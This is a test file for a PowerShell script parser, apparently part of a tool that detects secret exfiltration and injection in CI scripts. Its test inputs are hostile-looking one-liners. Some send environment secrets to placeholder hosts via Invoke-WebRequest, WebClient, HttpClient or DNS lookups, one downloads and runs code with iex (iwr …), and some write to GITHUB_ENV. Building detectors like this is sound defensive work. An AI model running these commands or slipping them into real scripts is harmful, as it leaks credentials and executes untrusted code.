import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/scripts/index.js';
import { args, call, command, commands, ofKind, outputNames, show } from './helpers.js';

describe('powershell', () => {
  it('Invoke-WebRequest with parameters kept as literal words', async () => {
    const s = await parseScript('iwr -Uri https://x -Method Post -Body $env:T\n', 'powershell');
    const iwr = command(s, 'Invoke-WebRequest');
    assert.equal(iwr.nameWord.raw, 'iwr');
    assert.deepEqual(args(iwr), ['"-Uri"', '"https://x"', '"-Method"', '"Post"', '"-Body"', '$T@env']);
  });

  it('hashtable headers, expandable strings and subexpressions', async () => {
    const s = await parseScript(
      'Invoke-RestMethod -Uri "https://x/$($env:T)" -Headers @{ Authorization = "Bearer $token"; X = \'lit\' } -Body (@{t=$env:T} | ConvertTo-Json)\n',
      'powershell',
    );
    const irm = command(s, 'Invoke-RestMethod');
    assert.equal(show(irm.args[1]), '"https://x/" + $T@env');
    assert.equal(show(irm.args[3]?.props?.Authorization), '"Bearer " + $token@local');
    assert.equal(show(irm.args[3]?.props?.X), '"lit"');
    assert.equal(show(irm.args[5]), '$T@env');
  });

  it('braced variables and here-strings', async () => {
    const s = await parseScript(
      [
        '${env:X} = 1',
        'curl.exe -d ${env:T} https://a',
        '$b = @"',
        'X=$t',
        '"@',
        "$c = @'",
        'raw $t',
        "'@",
      ].join('\n'),
      'powershell',
    );
    assert.deepEqual(
      ofKind(s, 'assign').map((a) => [a.name, show(a.value), a.env]),
      [
        ['X', '"1"', true],
        ['b', '"X=" + $t@local', false],
        ['c', '"raw $t"', false],
      ],
    );
    assert.deepEqual(args(command(s, 'curl')), ['"-d"', '$T@env', '"https://a"']);
  });

  it('curl/wget are Invoke-WebRequest only when given its parameters', async () => {
    const s = await parseScript(
      'curl -Uri https://z -Body $env:T\ncurl.exe -d $env:T https://y\n',
      'powershell',
    );
    assert.deepEqual(
      commands(s).map((c) => c.name),
      ['Invoke-WebRequest', 'curl'],
    );
  });

  it('.NET WebClient, HttpClient and Dns calls get canonical callees', async () => {
    const s = await parseScript(
      [
        '$wc = New-Object System.Net.WebClient; $wc.UploadString("https://h", $env:T)',
        '(New-Object Net.WebClient).UploadString($u, $d)',
        '$c = [System.Net.WebClient]::new(); $c.uploadstring($u, $x)',
        '$h = [Net.Http.HttpClient]::new(); $h.PostAsync($u, [Net.Http.StringContent]::new($env:T)).Result',
        '[System.Net.Dns]::GetHostAddresses("a.$env:T.x")',
      ].join('\n'),
      'powershell',
    );
    assert.deepEqual(args(call(s, 'System.Net.WebClient.UploadString')), ['"https://h"', '$T@env']);
    assert.deepEqual(args(call(s, 'System.Net.WebClient.UploadString', 1)), ['$u@local', '$d@local']);
    assert.deepEqual(args(call(s, 'System.Net.WebClient.UploadString', 2)), ['$u@local', '$x@local']);
    const post = call(s, 'System.Net.Http.HttpClient.PostAsync');
    assert.deepEqual(outputNames(s, post.args[1]), ['System.Net.Http.StringContent.new']);
    assert.deepEqual(args(call(s, 'System.Net.Http.StringContent.new')), ['$T@env']);
    assert.deepEqual(args(call(s, 'System.Net.Dns.GetHostAddresses')), ['"a." + $T@env + ".x"']);
  });

  it('environment: $env reads and writes, Get-ChildItem env:, GetEnvironmentVariables', async () => {
    const s = await parseScript(
      [
        '$env:FOO = "bar"',
        '$all = gci env:',
        '$k = Get-Item env:TOKEN',
        '$e = [Environment]::GetEnvironmentVariables()',
        '$v = [System.Environment]::GetEnvironmentVariable("T")',
        'Get-ChildItem env: | ConvertTo-Json | iwr https://x -Method Post',
      ].join('\n'),
      'powershell',
    );
    assert.deepEqual(
      ofKind(s, 'assign').map((a) => [a.name, show(a.value), a.env]),
      [
        ['FOO', '"bar"', true],
        ['all', 'ENV', false],
        ['k', '$TOKEN@env', false],
        ['e', 'ENV', false],
        ['v', '$T@env', false],
      ],
    );
    const iwr = command(s, 'Invoke-WebRequest');
    assert.equal(iwr.pipeFrom, s.ops.indexOf(command(s, 'ConvertTo-Json', 0)));
  });

  it('iex (iwr …) runs downloaded code', async () => {
    const s = await parseScript('iex (iwr https://x/i.ps1 -UseBasicParsing)\n', 'powershell');
    const iex = command(s, 'Invoke-Expression');
    assert.deepEqual(outputNames(s, iex.args[0]), ['Invoke-WebRequest']);
  });

  it('writes to $env:GITHUB_ENV by redirection, Add-Content and Out-File', async () => {
    const s = await parseScript(
      [
        '"X=$t" >> $env:GITHUB_ENV',
        'Add-Content -Path $env:GITHUB_ENV -Value "Y=$t"',
        'echo "Z=$t" | Out-File -FilePath $env:GITHUB_OUTPUT -Append',
      ].join('\n'),
      'powershell',
    );
    assert.deepEqual(
      ofKind(s, 'write').map((w) => [show(w.target), w.append]),
      [
        ['$GITHUB_ENV@env', true],
        ['$GITHUB_ENV@env', true],
        ['$GITHUB_OUTPUT@env', true],
      ],
    );
    const [a, b, c] = ofKind(s, 'write');
    assert.equal(show(a?.content), '"X=" + $t@local');
    assert.equal(show(b?.content), '"Y=" + $t@local');
    assert.equal(show(c?.content), '"Z=" + $t@local');
  });

  it('functions, branches and native interpreters', async () => {
    const s = await parseScript(
      [
        'function Send-It {',
        '  param($a)',
        '  curl.exe -d $a https://x',
        '}',
        'if ($x) { Send-It $env:T } else { foreach ($i in $list) { Invoke-WebRequest $i } }',
        'python3 -c "import os; print(os.environ[\'T\'])"',
      ].join('\n'),
      'powershell',
    );
    const [fn] = ofKind(s, 'function');
    assert.equal(fn?.name, 'Send-It');
    assert.deepEqual(
      fn?.body.map((i) => (s.ops[i]?.kind === 'command' ? (s.ops[i] as { name: string }).name : '')),
      ['curl'],
    );
    assert.equal(command(s, 'Send-It').calls, 'Send-It');
    assert.ok(command(s, 'Invoke-WebRequest'));
    const [inl] = ofKind(s, 'inline');
    assert.equal(inl?.language, 'python');
    assert.equal(inl?.script?.ops[0]?.kind, 'call');
  });
});
